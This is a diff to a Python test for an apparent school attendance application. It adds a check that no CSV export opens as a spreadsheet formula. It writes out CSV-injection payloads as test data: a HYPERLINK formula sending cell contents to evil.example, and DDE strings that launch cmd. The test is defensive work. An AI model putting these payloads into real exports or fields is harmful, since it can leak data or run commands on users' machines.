@@ -1,5 +1,10 @@
 """Private notes never leave in an export (DESIGN.md principle 5): one test walks every export.
 
+The same walk checks that no CSV cell opens as a formula in a spreadsheet: names, a
+caregiver, a response and an audit entry hold text that starts with =, +, -, @, a tab
+or a carriage return, and every cell of every CSV the walk produces must come out
+neutralised (stepwise/web/csvfiles.py); numbers stay numbers.
+
 It writes a unique marker into every private note the system holds (a response
 activity's notes, recorded through the real form; a referral's decision note), then
 produces every export there is and looks for the marker in each file of each:
@@ -29,6 +34,7 @@ must contain every note or a restore would lose them. It is not an export to a p
 another organisation (docs/privacy.md).
 """
 
+import csv
 import io
 import json
 import subprocess
@@ -40,11 +46,13 @@ from io import StringIO
 from django.apps import apps
 from django.contrib.auth import get_user_model
 from django.core.management import call_command, get_commands, load_command_class
+from django.test import RequestFactory
 from django.urls import URLPattern, URLResolver, get_resolver, reverse
 from django.utils import timezone
 
 from stepwise.accounts.models import Membership, Organisation
 from stepwise.api.services import token_create
+from stepwise.audit.services import audit_record
 from stepwise.cases.models import LogEntry, SafetyFlag
 from stepwise.cases.services import (
     log_entry_record,
@@ -59,6 +67,8 @@ from stepwise.letters.services import Figures, letter_issue
 from stepwise.readiness.models import Attestation, ProsecutionReferral, ReferralStatusChange
 from stepwise.readiness.services import attestation_record, referral_status_set
 from stepwise.responses.models import ResponseActivity
+from stepwise.schools.models import Caregiver, Student
+from stepwise.web.csvfiles import FORMULA_STARTS
 from tests.conftest import sign_in
 
 MARKER = "NOTE-MARKER-9e4b1d-must-never-be-exported"
@@ -102,6 +112,14 @@ NOT_EXPORTS = {
     "api-token": "makes, lists or revokes API tokens; prints a new token or token names",
 }
 PERIOD = ("2026-10-12", "2026-11-20")  # Term 4 2026 up to the pinned today
+# Text a spreadsheet would run as a formula, each where some export carries it.
+FORMULAS = {
+    "student name": '=HYPERLINK("https://evil.example/?"&A1,"Lee")',  # standings
+    "caregiver name": "@SUM(1+1)*cmd|' /C calc'!A0",  # subject access caregivers.csv
+    "done by": "-1+1+cmd|' /C calc'!A0",  # subject access response_activities.csv
+    "description": "\t=1+1 spoke with the whānau",  # the Ministry export's responses.csv
+    "audit detail": "\r=2+5 looked up",  # the audit log, and subject access audit.csv
+}
 
 
 def url_names(patterns=None, namespace: str = "") -> set[str]:
@@ -163,6 +181,20 @@ def parquet_text(data: bytes, folder) -> str:
         )
 
 
+def is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def formula_cells(text: str) -> list[str]:
+    """Return the cells of a CSV file that a spreadsheet would run as a formula."""
+    rows = csv.reader(io.StringIO(text, newline=""))
+    return [c for row in rows for c in row if c.startswith(FORMULA_STARTS) and not is_number(c)]
+
+
 def run(*args: str) -> str:
     out = StringIO()
     call_command(*args, stdout=out, stderr=StringIO())
@@ -203,7 +235,7 @@ def test_no_export_contains_a_private_note(
             "happened_on_day": "19",
             "happened_on_month": "11",
             "happened_on_year": "2026",
-            "done_by": "Hana Smith",
+            "done_by": FORMULAS["done by"],
             "notes": f"Whānau told us something private. {MARKER}",
         },
     )
@@ -259,6 +291,23 @@ def test_no_export_contains_a_private_note(
                  sent_on=timezone.localdate(), method="hand", reason=f"Because. {MARKER}",
                  figures=Figures(days_missed=Decimal(20), days_possible=Decimal(29)),
                  override_reason=f"Overridden. {MARKER}")  # fmt: skip
+
+    # --- Text that a spreadsheet would run --------------------------------------------------
+    Student.objects.filter(national_id="100000002").update(family_name=FORMULAS["student name"])
+    Caregiver.objects.filter(ref="CG-2").update(given_name=FORMULAS["caregiver name"])
+    ResponseActivity.objects.filter(student=aroha, done_by=FORMULAS["done by"]).update(
+        description_text=FORMULAS["description"]
+    )
+    looked_up = RequestFactory().get("/")
+    looked_up.user = officer
+    audit_record(
+        request=looked_up,
+        organisation=school.organisation,
+        action="view",
+        object_type="student",
+        object_id=aroha.pk,
+        detail=FORMULAS["audit detail"],
+    )
 
     # --- Produce every export ---------------------------------------------------------------
     outputs: dict[str, str] = {}
@@ -392,6 +441,27 @@ def test_no_export_contains_a_private_note(
     # each of Aroha's two caregivers), read as text here like every other file.
     sent = [text for label, text in found.items() if label.endswith(".pdf")]
     assert len(sent) == 2 and all("Aroha has missed 20 of 29 school days" in t for t in sent)
+
+    # --- No CSV cell opens as a formula -----------------------------------------------------
+    csvs = {
+        label: text
+        for label, text in outputs.items()
+        if label.endswith((".csv", " csv")) or label == "web audit_export"
+    }
+    # 2 Ministry files and 10 subject access files on the web and from commands, the audit
+    # log, the CLI's standings, and the API's standings and two Ministry tables.
+    assert len(csvs) == 2 * (2 + 10) + 1 + 1 + 3, "\n".join(sorted(csvs))
+    runnable = {label: cells for label, text in csvs.items() if (cells := formula_cells(text))}
+    assert not runnable, f"cells a spreadsheet would run as formulas: {runnable}"
+    everything = "".join(csvs.values())
+    for what, formula in FORMULAS.items():
+        assert f"'{formula}" in everything or f"'{formula}".replace('"', '""') in everything, (
+            f"no CSV carries the {what}: the check proves nothing about it"
+        )
+    # Parquet is not a spreadsheet's file: it keeps the text exactly as typed.
+    parquet = next(o for o in outputs if o.endswith(" parquet") and "responses" in o)
+    assert FORMULAS["description"] in outputs[parquet]
+
     # Files looked at: 2 + 1 + 11 on the web, 2 + 2 + 11 from commands (READMEs included)
     # and the two letters in the command's zip, 2 + 4 + 1 from the API, a case letter, a
     # school letter and two certificate downloads (text and bytes of each PDF).
